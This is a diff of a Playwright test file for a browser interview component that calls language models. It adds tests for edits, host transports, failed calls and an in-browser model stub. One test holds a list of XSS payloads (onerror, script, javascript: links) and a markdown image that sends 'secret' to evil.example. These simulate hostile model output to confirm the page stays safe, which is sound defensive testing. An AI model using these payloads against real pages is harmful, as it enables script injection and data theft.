@@ -4,10 +4,10 @@
 import assert from 'node:assert/strict';
 import test from 'node:test';
 import { ANSWERS, answer, AXE, begin, box, stored, visit } from './harness.mjs';
+import { compose } from '../stub/replies.mjs';
 import { endpoint, withModels } from './endpoint.mjs';
 
 const said = (page) => page.locator('.said').allTextContents();
-const asked = (page) => page.locator('.asked').allTextContents();
 const NOT_OURS = [/Failed to load resource/];
 
 /** Opens a page whose study has models, beside an endpoint. */
@@ -158,6 +158,20 @@ test('a reload in the middle of a call asks the same again', async (t) => {
   assert.equal(again[1].headers['x-request-id'], first.headers['x-request-id'], 'under the same id');
 });
 
+test('an edited answer is read by the model again, with a wait of its own', async (t) => {
+  const { page, api } = await meet(t, { calls: { turn_budget_ms: 2000 } });
+  await begin(page);
+  await answer(page, ANSWERS[0]);
+  await new Promise((over) => setTimeout(over, 2200));
+  await page.click('[data-act=edit]');
+  await box(page).fill(ANSWERS[1]);
+  await box(page).press('Control+Enter');
+  await until(async () => (await voices(page)).filter(({ entry }) => entry === 'read').length === 2);
+  await page.locator('textarea[data-box="answer-2"]').waitFor();
+  assert.deepEqual((await voices(page)).filter(({ entry }) => entry === 'read').map(({ by }) => by), ['analysis', 'analysis']);
+  assert.equal(api.seen.calls.filter(({ task }) => task === 'turn_analysis').length, 2);
+});
+
 test('stopping in the middle of a call ends the interview at once', async (t) => {
   const { page, api } = await meet(t, { fate: ({ turn }) => (turn === 2 ? { hold: true } : undefined) });
   await begin(page);
@@ -206,7 +220,7 @@ test('whether to stop may be asked while models are, and their reply does not an
 });
 
 test('the wait is heard once it is one, in a region of its own, and is accessible', async (t) => {
-  const { page } = await meet(t, { fate: ({ turn }) => (turn === 1 ? { ms: 3000 } : undefined) });
+  const { page } = await meet(t, { fate: ({ turn }) => (turn === 1 ? { ms: 3000 } : undefined), context: { bypassCSP: true } });
   await begin(page);
   await box(page).fill(ANSWERS[0]);
   await page.evaluate(() => {
@@ -227,6 +241,164 @@ test('the wait is heard once it is one, in a region of its own, and is accessibl
   assert.deepEqual(await page.evaluate(() => globalThis.heard), ['Reading your answer']);
   assert.equal(await page.locator('[data-key=wait]').count(), 0);
 });
+
+/** Lets the page's transport be answered by a function of this test. */
+async function hosted(t, reply, more = {}) {
+  const asked = [];
+  const met = await meet(t, {
+    models: ['host'],
+    ...more,
+    before: async (context) => {
+      await context.exposeFunction('replyOf', (task) => asked.push(task) && reply(task));
+      await context.addInitScript(() => addEventListener('DOMContentLoaded', () => {
+        document.querySelector('querent-interview').transport = (task) => globalThis.replyOf(task);
+      }));
+    },
+  });
+  return { ...met, asked };
+}
+
+const SYSTEM = JSON.stringify({ node_types: ['attribute', 'functional_consequence'], edge_types: ['leads_to'] });
+
+test('the page around may ask a model itself, with the prompt in its hands', async (t) => {
+  let calls = 0;
+  const { page, asked: tasks, api } = await hosted(t, ({ request }) => ({
+    output: compose({ task: request.task, json: request.task === 'turn_analysis', system: SYSTEM, user: JSON.stringify(request.context) }, { obey: false, turn: ++calls }),
+    model: 'mine', usage: { input: 10, output: 5 },
+  }));
+  await begin(page);
+  await answer(page, ANSWERS[0]);
+  await answer(page, ANSWERS[1]);
+  const heard = await voices(page);
+  assert.deepEqual(heard.filter(({ turn, entry }) => entry === 'read' || turn > 1).map(({ by }) => by), ['mine', 'mine', 'mine', 'mine']);
+  assert.deepEqual(api.seen.mints, [], 'a study whose model is the host asks no endpoint');
+  for (const { request, prompt } of tasks) {
+    assert.ok(prompt.system.length > 100 && prompt.user.length > 20, request.task);
+    assert.ok(prompt.max_output > 0);
+  }
+  assert.ok(tasks.some(({ prompt }) => prompt.user.includes('The barista one froths properly')));
+  const [tag] = /<[^>]*([0-9a-f]{16})[^>]*>/.exec(tasks[0].prompt.user) ?? [];
+  assert.ok(!tag || !tasks[1].prompt.user.includes(tag), 'the marks around respondents’ words differ from call to call');
+});
+
+for (const [what, reply, reason] of [
+  ['throws', () => { throw new Error('no'); }, 'transport'],
+  ['gives nothing', () => undefined, 'bad_output'],
+  ['gives an object without text', () => ({ output: { toString: 'x' } }), 'bad_output'],
+  ['never settles', () => new Promise(() => {}), 'timeout_total'],
+]) {
+  test(`a transport that ${what} is a failed call, no more`, async (t) => {
+    const { page } = await hosted(t, reply, { calls: { turn_budget_ms: 1500 } });
+    await begin(page);
+    await answer(page, ANSWERS[0]);
+    const [read] = (await voices(page)).filter(({ entry }) => entry === 'read');
+    assert.deepEqual([read.by, read.failures[0]], ['rules', reason]);
+  });
+}
+
+const ATTACKS = [
+  '<img src=x onerror="globalThis.taken = true">', '<script>globalThis.taken = true</script>', '<svg onload="globalThis.taken = true">',
+  '"><iframe srcdoc="<script>parent.taken = true</script>">', '<a href="javascript:globalThis.taken = true">What?</a>',
+  '![x](https://evil.example/?q=secret) What do you mean?', '[click](javascript:alert(1)) What is it?', '<details open ontoggle="globalThis.taken = true">x?',
+];
+
+test('no reply of a model makes an element, asks another host, or is shown as a question it must not be', async (t) => {
+  let at = 0;
+  const output = ({ task, body }) => {
+    const attack = ATTACKS[at++ % ATTACKS.length];
+    if (task.startsWith('question')) return `${attack} What else comes to mind, and why?`;
+    const quote = body.context.answer.slice(0, 12);
+    return JSON.stringify({
+      extractability: { extractable: true, reason: attack }, momentum: { level: 'neutral', indicators: [attack] },
+      extraction: { nodes: [{ label: attack.slice(0, 80), node_type: 'attribute', quote, element_mapping: null, reaction: null, is_ambiguous: false, confidence: 0.9 }], edges: [] },
+      signals: { response_depth: 3, specificity: 3, certainty: 3, emotional_valence: 3, engagement: 3, intellectual_engagement: 3, sentiment: 'neutral', topics: [attack], hedging: 'none' },
+      ambiguity: { ambiguity: 0.1, reasoning: attack }, qualitative: null, language: 'en',
+    });
+  };
+  const { page, seen } = await meet(t, { fate: (call) => ({ output: output(call) }) });
+  await begin(page);
+  await page.click('[data-act=how]');
+  for (const text of ANSWERS.slice(0, 5)) {
+    await answer(page, text);
+    for (const tab of ['why', 'map', 'progress', 'models']) {
+      await page.click(`#${tab}`);
+      assert.equal(await page.locator('.shell :is(img, script, iframe, a[href^="javascript"], [onerror], [onload], [ontoggle])').count(), 0);
+    }
+    assert.doesNotMatch(await page.locator('.question').textContent(), /evil\.example|javascript:|<script/);
+  }
+  assert.equal(await page.evaluate(() => globalThis.taken), undefined);
+  assert.deepEqual(seen.elsewhere, []);
+});
+
+test('the model of the browser is offered, never fetched unasked, and asked one task at a time', async (t) => {
+  const { page } = await meet(t, {
+    models: ['browser'],
+    before: (context) => context.addInitScript(builtIn),
+  });
+  await page.locator('[data-act=getModel]').waitFor();
+  assert.equal(await page.evaluate(() => globalThis.built.created), 0, 'nothing is made before a word is said');
+  await page.click('[data-act=getModel]');
+  await page.locator('[data-act=getModel]').waitFor({ state: 'detached' });
+  await begin(page);
+  await answer(page, ANSWERS[0]);
+  const { tasks, most, downloads, alive } = await page.evaluate(() => globalThis.built);
+  assert.equal(downloads, 1);
+  assert.equal(most, 1, 'one prompt at a time');
+  assert.ok(tasks >= 2);
+  assert.ok(alive <= 4, 'one session a task, and the copies are given back');
+  const heard = await voices(page);
+  assert.equal(heard.find(({ entry }) => entry === 'read').by, 'browser');
+  assert.equal(heard.find(({ entry, turn }) => entry === 'asked' && turn === 2).by, 'browser');
+});
+
+test('without a word of the respondent the browser’s model is left alone', async (t) => {
+  const { page } = await meet(t, { models: ['browser'], before: (context) => context.addInitScript(builtIn) });
+  await page.locator('[data-act=getModel]').waitFor();
+  await begin(page);
+  await answer(page, ANSWERS[0]);
+  assert.equal(await page.evaluate(() => globalThis.built.created), 0);
+  assert.ok((await voices(page)).every(({ by }) => by === 'rules'));
+});
+
+/** In the page: a Prompt API as the browser has it, with a model of few words. */
+function builtIn() {
+  const built = (globalThis.built = { created: 0, tasks: 0, most: 0, now: 0, downloads: 0, alive: 0 });
+  let availability = 'downloadable';
+  const session = () => {
+    built.alive += 1;
+    return {
+      clone: async () => session(),
+      destroy: () => void (built.alive -= 1),
+      prompt: async (input, { responseConstraint: schema }) => {
+        built.tasks += 1;
+        built.now += 1;
+        built.most = Math.max(built.most, built.now);
+        await new Promise((over) => setTimeout(over, 30));
+        built.now -= 1;
+        if (!schema) return 'What does that change for you on an ordinary morning?';
+        const { properties = {} } = schema;
+        if ('nodes' in properties) {
+          return JSON.stringify({ nodes: [{ label: 'froths properly', node_type: 'attribute', quote: 'froths properly', element_mapping: null, reaction: 'positive', is_ambiguous: false, confidence: 0.9 }], edges: [] });
+        }
+        return 'level' in properties ? '{"level":"neutral","indicators":[]}' : 'no JSON at all';
+      },
+    };
+  };
+  globalThis.LanguageModel = {
+    availability: async () => availability,
+    create: async ({ monitor }) => {
+      built.created += 1;
+      if (availability !== 'available') {
+        built.downloads += 1;
+        const target = new EventTarget();
+        monitor?.(target);
+        target.dispatchEvent(Object.assign(new Event('downloadprogress'), { loaded: 0.5 }));
+        availability = 'available';
+      }
+      return session();
+    },
+  };
+}
 
 async function violations(page) {
   await page.addScriptTag({ path: AXE });
